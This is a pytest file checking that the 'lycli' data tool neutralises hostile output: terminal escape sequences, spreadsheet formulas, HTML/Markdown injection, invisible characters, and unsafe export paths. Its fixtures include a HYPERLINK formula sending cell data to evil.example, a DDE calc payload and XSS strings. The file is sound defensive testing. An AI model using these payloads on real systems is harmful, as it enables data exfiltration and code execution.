"""Output safety (red-team report F4, F8-F11, F28): what lycli writes to a terminal, a
spreadsheet, a Markdown renderer or an export path cannot be turned against its reader.

Each test names the finding it guards. The renderers are driven directly with hand-made
Sheets and rows where that says more; the CLI runs on a hostile copy of the fixture.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
import unicodedata
from pathlib import Path
from typing import Any

import pytest

from liaoyuan_cli.errors import CannotWrite, UsageError
from liaoyuan_cli.render import Options, save
from liaoyuan_cli.render import data as machine
from liaoyuan_cli.render.sheet import Column, Note, Sheet, Span, Table, plain
from liaoyuan_cli.render.terminal import draw
from liaoyuan_cli.text import escape_controls, escape_unsafe, neutralise
from liaoyuan_cli.vocab import Format

from .conftest import DATA, FIXTURE, copy_kb, run_cli, subprocess_env

AREAS = "areas.toml"
ARTICLE = "articles/fixture-2024/article.toml"
RECORDS = "articles/fixture-2024/records/gaoxin.toml"
# What must never reach a terminal: ESC (CSI, OSC), BEL, a C1 CSI, DEL, bidi overrides, a tag.
CONTROLS = ["\x1b", "\x07", "\x9b", "\x7f", "\u202e", "\u2066", "\U000e0069"]
ESC_TEXT = "A \x1b]0;PWNED\x07\x1b[2J B \x1b[31mRED\u202e evil \x9b31m \U000e0069\U000e0067"


def _edit(kb: Path, name: str, old: str, new: str) -> None:
    path = kb / name
    text = path.read_text(encoding="utf-8")
    assert old in text, (name, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _fixture_cli(kb: Path, *args: str) -> Any:
    result = run_cli(*args, "--data", str(kb))
    assert result.code == 0, result.stderr
    return result


def _shown(text: str) -> list[str]:
    return [c for c in CONTROLS if c in text]


# -- F4: a terminal that cannot encode every character ---------------------------------------------


def _sheet() -> Sheet:
    """A small sheet in both languages, with a title, a caption, a note and full-width text."""
    table = Table("高新区 · High-tech Zone", [Column("Id", key=True), Column("文本\nText", ratio=3)])
    table.add(plain("gaoxin-2023-gdp", "id"), plain("地区生产总值完成85亿元，增长7.2%。\nGDP up 7.2% · ≥5个"))
    table.caption = "说明：“引号” · note"
    return Sheet("t", [Note([[Span("提及：", None, "strong"), Span("天楹 Tianying")]]), table], "", "both")


class _Stream(io.StringIO):
    """A text stream that says it has an encoding Python does not know."""

    @property
    def encoding(self) -> str:  # type: ignore[override]
        return "x-no-such-codec"


@pytest.mark.parametrize(
    "encoding", ["latin-1", "iso-8859-1", "ISO-8859-15", "koi8-r", "cp1252", "ascii", "gbk", "big5"]
)
@pytest.mark.parametrize("width", [100, 24])
def test_f4_tables_degrade_to_question_marks_on_any_terminal_encoding(
    encoding: str, width: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every character the stream cannot encode is already '?' when it reaches it: a strict
    stream would raise otherwise."""
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding=encoding, errors="strict", newline="\n")
    monkeypatch.setenv("COLUMNS", str(width))
    draw(_sheet(), Options(color=False, out=out))
    out.flush()
    shown = raw.getvalue().decode(encoding)
    assert "gaoxin-2023-gdp" in shown and "GDP" in shown
    if encoding not in ("gbk", "big5"):
        assert "?" in shown and "高" not in shown


def test_f4_an_unknown_encoding_falls_back_to_ascii() -> None:
    out = _Stream()
    draw(_sheet(), Options(color=False, out=out))
    shown = out.getvalue()
    assert shown.isascii() and "gaoxin-2023-gdp" in shown and "?" in shown


@pytest.mark.parametrize("encoding", ["latin-1", "iso-8859-15", "koi8-r"])
def test_f4_the_cli_answers_on_a_single_byte_terminal(encoding: str, tmp_path: Path) -> None:
    env = subprocess_env(tmp_path / "cache", FIXTURE, PYTHONIOENCODING=encoding, COLUMNS="100")
    result = subprocess.run(
        [sys.executable, "-m", "liaoyuan_cli", "areas"], env=env, capture_output=True, timeout=120
    )
    assert result.returncode == 0, result.stderr.decode(errors="replace")
    assert result.stderr == b""
    shown = result.stdout.decode(encoding)
    assert "gaoxin" in shown and "?" in shown


# -- F8: control sequences in titles, captions, headers and notes ---------------------------------


def _hostile_sheet(rows: bool = True) -> Sheet:
    """Text that bypasses span(): raw titles, captions, headings, and Spans made by hand."""
    table = Table(
        f"Title {ESC_TEXT}",
        [Column(f"Id{ESC_TEXT}", key=True), Column(f"Head {ESC_TEXT}\n第二行", ratio=3)],
        caption=f"Caption {ESC_TEXT}",
    )
    if rows:
        table.add([[Span(f"x-1{ESC_TEXT}", None, "id")]], [[Span(f"cell {ESC_TEXT}")]])
    note = Note([[Span(f"note {ESC_TEXT}", None, "strong")]], heading=True)
    whole = Note([[Span(f"whole {ESC_TEXT}")]], whole=True)
    return Sheet(f"Sheet {ESC_TEXT}", [note, table, whole], "", "both")


@pytest.mark.parametrize("rows", [True, False], ids=["rows", "empty"])
@pytest.mark.parametrize("width", [160, 60, 16])  # a grid, a merged grid, stacked rows
def test_f8_nothing_drawn_from_a_sheet_carries_a_control_character(
    rows: bool, width: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = io.StringIO()
    monkeypatch.setenv("COLUMNS", str(width))
    draw(_hostile_sheet(rows), Options(color=False, out=out))
    shown = out.getvalue()
    assert not _shown(shown), _shown(shown)
    assert "\ufffd" in shown and "PWNED" in shown  # shown, made harmless


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """The fixture with control sequences in an area's name, a session and a record."""
    kb = copy_kb(tmp_path / "kb", FIXTURE)
    _edit(
        kb,
        AREAS,
        'en = "Liaoyuan High-tech Industrial Development Zone"',
        'en = "Liaoyuan \\u001b]0;PWNED\\u0007\\u001b[2J High-tech \\u009b31m Zone"',
    )
    _edit(
        kb,
        ARTICLE,
        'session_en = "Third Session of the Ninth People\'s Congress of Liaoyuan City"',
        'session_en = "Third Session \\u001b[31mRED\\u202e evil \\U000E0069"',
    )
    return kb


@pytest.mark.parametrize(
    "args",
    [
        ("targets", "gaoxin", "--article", "fixture-2024"),
        ("metrics", "gaoxin", "--article", "fixture-2024"),
        ("records", "--area", "gaoxin", "--article", "fixture-2024"),
        ("track", "gaoxin"),
        ("areas",),
    ],
    ids=" ".join,
)
@pytest.mark.parametrize("width", ["120", "30"])
def test_f8_names_from_the_knowledge_base_never_drive_the_terminal(
    hostile: Path, args: tuple[str, ...], width: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", width)
    for lang in ("both", "en"):
        shown = _fixture_cli(hostile, *args, "--lang", lang).stdout
        assert not _shown(shown), (lang, _shown(shown))
    assert "PWNED" in _fixture_cli(hostile, "targets", "gaoxin", "--article", "fixture-2024").stdout


def test_f8_arguments_echoed_in_a_title_never_drive_the_terminal(tmp_path: Path) -> None:
    shown = run_cli("search", "\x1b[31mred\u202e", "--data", str(FIXTURE)).stdout
    assert "red" in shown and not _shown(shown)
    path = tmp_path / "out\x1b]0;x\x07.db"
    exported = run_cli("export", str(path), "--data", str(FIXTURE))
    assert exported.code == 0, exported.stderr
    assert "out" in exported.stdout and not _shown(exported.stdout)


# -- F9: formulas in list-valued CSV/TSV cells ----------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _delimited(
    monkeypatch: pytest.MonkeyPatch, row: dict[str, Any], fmt: Format, raw: bool = False
) -> dict[str, str]:
    """One hand-made row through the CSV/TSV writer, read back."""
    monkeypatch.setattr(machine, "rows", lambda result: (list(row), [row]))
    out = io.StringIO()
    machine.write({"command": "records"}, Options(format=fmt, raw=raw, out=out))
    delimiter = "\t" if fmt == Format.tsv else ","
    return next(csv.DictReader(io.StringIO(out.getvalue()), delimiter=delimiter))


@pytest.mark.parametrize("fmt", [Format.csv, Format.tsv])
def test_f9_every_cell_a_spreadsheet_would_run_gets_an_apostrophe(
    monkeypatch: pytest.MonkeyPatch, fmt: Format
) -> None:
    row = {
        "aliases": [FORMULA, "gaoxin"],
        "later": ["gaoxin", "@SUM(A1)"],
        "qualifiers": ["+5%", "-x"],
        "named": [{"display": "-cmd|' /C calc'!A0"}],
        "official": {"role": "=1+1"},
        "text": "=1+1",
        "tab": ["\t=1"],
        "int": -3,
        "float": -2.5,
        "numbers": [-1, -2.5],
        "percent": "-2.1%",
        "plain": ["a", "b"],
    }
    cells = _delimited(monkeypatch, row, fmt)
    for name in ("aliases", "qualifiers", "named", "text", "tab"):
        assert cells[name].startswith("'"), (name, cells[name])
    assert cells["aliases"] == "'" + FORMULA + ";gaoxin"
    # A spreadsheet that splits cells on ';' (a list separator in many locales) sees no formula either.
    for name, cell in cells.items():
        for part in cell.split(";"):
            assert not part.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            assert not part.startswith("-") or part.lstrip("-").replace(".", "").rstrip("%").isdigit()
    # Numbers stay exact and unprefixed.
    assert (cells["int"], cells["float"], cells["numbers"], cells["percent"]) == (
        "-3",
        "-2.5",
        "-1;-2.5",
        "-2.1%",
    )
    assert cells["plain"] == "a;b"


def test_f9_raw_writes_every_cell_as_stored(monkeypatch: pytest.MonkeyPatch) -> None:
    row = {"aliases": [FORMULA, "gaoxin"], "text": "=1+1", "later": ["a", "=b"]}
    cells = _delimited(monkeypatch, row, Format.csv, raw=True)
    assert cells == {"aliases": FORMULA + ";gaoxin", "text": "=1+1", "later": "a;=b"}


def test_f9_an_alias_with_a_formula_through_the_cli(tmp_path: Path) -> None:
    kb = copy_kb(tmp_path / "kb", FIXTURE)
    _edit(
        kb,
        AREAS,
        'aliases = ["gaoxin", ',
        'aliases = ["=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")", "gaoxin", ',
    )
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        out = _fixture_cli(kb, "areas", "--format", fmt, "--fields", "slug,aliases").stdout
        rows = [r for r in csv.DictReader(io.StringIO(out), delimiter=delimiter) if r["slug"] == "gaoxin"]
        assert [r["aliases"] for r in rows][:2] == ["'" + FORMULA, "gaoxin"], rows  # one alias a row
    raw = _fixture_cli(kb, "areas", "--format", "csv", "--fields", "slug,aliases", "--raw").stdout
    rows = [r for r in csv.DictReader(io.StringIO(raw)) if r["slug"] == "gaoxin"]
    assert rows[0]["aliases"] == FORMULA


# -- F10: HTML and Markdown in --format markdown --------------------------------------------------

HOSTILE_MARKDOWN = [
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "<style>@import url(http://evil/x.css)</style> <!-- the rest hidden",
    '<a href="javascript:alert(3)">x</a> <http://evil.example/auto>',
    "[click](javascript:alert(4)) and ![](http://evil.example/pixel.png)",
    "[ref][1] and ![img][1]\n\n[1]: http://evil.example/",
    "*em* **strong** _em_ __strong__ ~~gone~~ `code` ``co`de``",
    "# heading | pipe \\| backslash at the end \\",
    "&lt;script&gt; &#60;b&#62; &amp; R&D",
    "line one\nline two\r\nthree",
    "{{ site.secret }} {% include x.html %} {# hidden #} {plain}",
    "consumption_services 地区生产总值（GDP）增长7.2%，“引号”、《书名》：完成！",
]


def _markdown(monkeypatch: pytest.MonkeyPatch, texts: list[str]) -> str:
    """Texts, each one line of a table's cell, drawn as --format markdown draws a table."""
    from liaoyuan_cli.render.markdown import render

    table = Table("", [Column("id", key=True), Column("en")])
    for i, t in enumerate(texts):
        table.add([[Span(f"r{i}")]], [[Span(neutralise(t))]])
    return render(Sheet("", [table], "", "en"))


def _parsed(markdown: str) -> list[Any]:
    """The inline tokens of every table cell, as a CommonMark renderer with HTML and tables on sees them."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = md.parse(markdown)
    kinds = {t.type for t in tokens}
    assert "table_open" in kinds and "html_block" not in kinds, kinds
    return [t for t in tokens if t.type == "inline"]


def test_f10_markdown_shows_html_and_markdown_from_the_data_literally(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    markdown = _markdown(monkeypatch, HOSTILE_MARKDOWN)
    assert markdown.count("\n") == 2 + len(HOSTILE_MARKDOWN)  # one line a row
    inline = _parsed(markdown)
    children = [c for t in inline for c in (t.children or [])]
    active = {c.type for c in children} - {"text", "softbreak"}
    assert not active, active  # no html_inline, link, image, em, strong, s or code_inline
    cells = [t.content for t in inline]
    texts = ["".join(c.content for c in (t.children or [])) for t in inline]
    assert len(cells) == 2 + 2 * len(HOSTILE_MARKDOWN)
    for original, shown in zip(HOSTILE_MARKDOWN, texts[3::2], strict=True):
        assert shown == neutralise(original).replace("\n", " ").strip()  # the very text, shown literally
    # Words and Chinese punctuation read as they are in the Markdown itself.
    assert "consumption_services 地区生产总值（GDP）增长7.2%，“引号”、《书名》：完成！" in markdown
    assert "{{" not in markdown and "{%" not in markdown  # no template runs before the Markdown


def test_f10_ordinary_english_stays_readable_in_the_markdown(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "GDP (RMB) rose 7.2% in 2023, a first! See note 3; a-b/c: 100.5 yuan, 'quoted' \"too\"."
    assert f"| r0 | {text} |" in _markdown(monkeypatch, [text])


def test_f10_a_record_with_html_through_the_cli(tmp_path: Path) -> None:
    kb = copy_kb(tmp_path / "kb", FIXTURE)
    evil = (
        "</title><script>alert(1)</script><img src=x onerror=alert(2)> "
        '<a href=\\"javascript:alert(3)\\">x</a> [x](javascript:alert(4)) ![](http://evil/p.png) <!--'
    )
    _edit(
        kb, RECORDS, 'en = "In 2023 the zone\'s GDP reached 8.5 billion yuan, up 7.2%."', f'en = "GDP {evil}"'
    )
    out = _fixture_cli(kb, "show", "gaoxin-2023-gdp", "--format", "markdown", "--lang", "en").stdout
    assert "evil" in out and "<" not in out.replace("<br>", "") and ">" not in out.replace("<br>", "")
    children = [c for t in _parsed(out) for c in (t.children or [])]
    # Only lycli's own line breaks in a cell are HTML; nothing from the data is.
    assert {c.type for c in children} - {"html_inline"} <= {
        "text",
        "softbreak",
        "strong_open",
        "strong_close",
    }
    assert {c.content for c in children if c.type == "html_inline"} <= {"<br>"}


# -- F11: invisible characters that hide words ----------------------------------------------------

# Default_Ignorable_Code_Point, from Unicode's DerivedCoreProperties.txt (15.1).
DEFAULT_IGNORABLE = [
    (0x00AD, 0x00AD), (0x034F, 0x034F), (0x061C, 0x061C), (0x115F, 0x1160), (0x17B4, 0x17B5),
    (0x180B, 0x180F), (0x200B, 0x200F), (0x202A, 0x202E), (0x2060, 0x206F), (0x3164, 0x3164),
    (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF), (0xFFA0, 0xFFA0), (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A), (0xE0000, 0xE0FFF),
]  # fmt: skip


def test_f11_invisible_characters_that_hide_words_are_shown() -> None:
    hidden = "a\U000e0069\U000e0067\u00ad\u180e\u034f\u3164\uffa0\u115f\u1160\u200d\ufe0f\U000e0100b"
    assert neutralise(hidden) == "a" + "\ufffd" * (len(hidden) - 2) + "b"
    for low, high in DEFAULT_IGNORABLE:
        for code in range(low, high + 1):
            assert neutralise(chr(code)) == "\ufffd", hex(code)


def test_f11_every_control_format_and_separator_character_is_shown() -> None:
    """Whatever this Python's Unicode says is a control, a format character, a surrogate or a
    line or paragraph separator (tab and newline aside)."""
    chosen = [
        chr(code)
        for code in range(0x110000)
        if unicodedata.category(chr(code)) in ("Cc", "Cf", "Cs", "Zl", "Zp") and chr(code) not in "\t\n"
    ]
    shown = neutralise("".join(chosen))
    assert shown == "\ufffd" * len(chosen), [hex(ord(c)) for c in shown.replace("\ufffd", "")]


def test_f11_ordinary_text_is_left_alone() -> None:
    text = "辽源高新区 Liaoyuan, 7.2%：“引号”（括号）《书名》、。！？ · ≥5个 é ü ｛全角｝ 한국"
    text += " \u00a0\u3000\u2002 \t\n"  # spaces, no-break, ideographic, en; a tab and a newline
    assert neutralise(text) == text
    corpus = "".join(
        p.read_text(encoding="utf-8") for p in sorted(DATA.rglob("*")) if p.suffix in (".toml", ".txt")
    )
    assert neutralise(corpus) == corpus  # the bundled data holds nothing unsafe: it renders unchanged


def test_f11_json_escapes_astral_characters_as_surrogate_pairs() -> None:
    """A tag character is escaped as JSON spells it (two \\u escapes), not as \\ue0069 (wrong)."""
    value = {"en": "a\U000e0069\U000e0067b\u00ad\ud800c"}
    for ascii_only in (True, False):
        text = escape_unsafe(json.dumps(value, ensure_ascii=ascii_only))
        assert text.isascii()
        assert json.loads(text) == value
    assert escape_controls("a\U000e0069") == "a\\U000e0069"


# -- F28: an export path that is not a regular file -----------------------------------------------


def test_f28_an_export_to_a_fifo_is_refused_at_once(tmp_path: Path) -> None:
    fifo = tmp_path / "f.html"
    os.mkfifo(fifo)
    env = subprocess_env(tmp_path / "cache", FIXTURE, COLUMNS="100")
    for option in ("--html", "--svg"):
        for force in ((), ("--force",)):
            try:
                result = subprocess.run(
                    [sys.executable, "-m", "liaoyuan_cli", "areas", option, str(fifo), *force],
                    env=env,
                    capture_output=True,
                    text=True,
                    timeout=60,
                    stdin=subprocess.DEVNULL,
                )
            except subprocess.TimeoutExpired:
                pytest.fail(f"{option} to a FIFO blocked")
            assert result.returncode == 2, result.stderr
            assert result.stderr == f"lycli: error: {fifo} is a FIFO, not a file lycli can replace\n"
            assert result.stdout == ""  # the file first: nothing is shown when it cannot be written


def test_f28_a_fifo_with_a_reader_is_refused_and_gets_nothing(tmp_path: Path) -> None:
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    try:
        with pytest.raises(UsageError, match="FIFO"):
            save("<p>page</p>", str(fifo), force=True)
        assert os.read(reader, 100) == b""  # nothing was written, and the writer is gone
    finally:
        os.close(reader)


def test_f28_devices_other_than_the_null_device_are_refused() -> None:
    save("discarded", os.devnull)
    for device in ("/dev/full", "/dev/zero"):
        if not Path(device).exists():
            continue
        with pytest.raises(UsageError, match="character device"):
            save("x", device, force=True)


def test_f28_a_file_is_replaced_only_with_force_and_never_through_a_symlink(tmp_path: Path) -> None:
    """Issue 25.3: --svg/--html refuse what exists unless --force, as export does, and --force
    replaces a regular file in one step but never a symlink or what it points at."""
    target = tmp_path / "page.html"
    target.write_text("old text, longer than the new one\n" * 10, encoding="utf-8")
    with pytest.raises(UsageError, match="already exists"):
        save("新\n", str(target))
    save("新\n", str(target), force=True)
    assert target.read_bytes() == "新\n".encode()
    link = tmp_path / "link.html"
    link.symlink_to(target)
    with pytest.raises(UsageError, match="symlink"):
        save("x", str(link), force=True)
    assert target.read_bytes() == "新\n".encode() and link.is_symlink()
    fresh = tmp_path / "fresh.svg"
    save("<svg/>", str(fresh))
    assert fresh.read_text(encoding="utf-8") == "<svg/>"
    assert stat.S_IMODE(os.stat(fresh).st_mode) == 0o666 & ~_umask()
    with pytest.raises(CannotWrite, match="missing"):
        save("x", str(tmp_path / "missing" / "a.svg"))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fresh.svg", "link.html", "page.html"]


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_f28_a_full_disk_leaves_the_previous_file_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 25.3: a --svg/--html write that fails half way (ENOSPC) replaces nothing and leaves
    no temporary file: the previous chart stays as it was."""
    import errno

    from liaoyuan_cli import place

    target = tmp_path / "chart.svg"
    target.write_text("<svg>the good chart</svg>", encoding="utf-8")

    def full(fd: int, content: bytes) -> None:
        os.write(fd, content[:10])
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(place, "write_all", full)
    with pytest.raises(CannotWrite, match="No space left on device"):
        save("<svg>a new chart, longer</svg>", str(target), force=True)
    assert target.read_text(encoding="utf-8") == "<svg>the good chart</svg>"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["chart.svg"]
    with pytest.raises(CannotWrite):
        save("<svg/>", str(tmp_path / "new.svg"))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["chart.svg"]
